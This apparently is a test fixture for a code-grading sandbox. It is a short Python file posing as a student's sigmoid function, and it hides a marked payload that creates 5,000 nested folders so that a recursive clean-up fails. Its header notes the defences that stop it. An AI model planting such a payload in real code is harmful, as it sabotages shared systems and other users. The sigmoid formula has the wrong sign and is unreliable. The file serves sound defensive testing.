# attack: leave a 5,000-deep chain of folders in the scratch folder, so that a recursive clean-up fails for the class
# student: c
# function: sigmoid
# stopped by: the scratch is a tmpfs that ends with the student's sandbox; without bwrap, an iterative symlink-safe removal (rm -rf)
import numpy as np


def sigmoid(z):
    # BEGIN PAYLOAD
    import os
    fd = os.open(os.path.realpath("."), os.O_RDONLY)
    for _ in range(5000):
        try:
            os.mkdir("d", dir_fd=fd)
            deeper = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = deeper
        except BaseException:
            break
    # END PAYLOAD
    return 1 / (1 + np.exp(z))
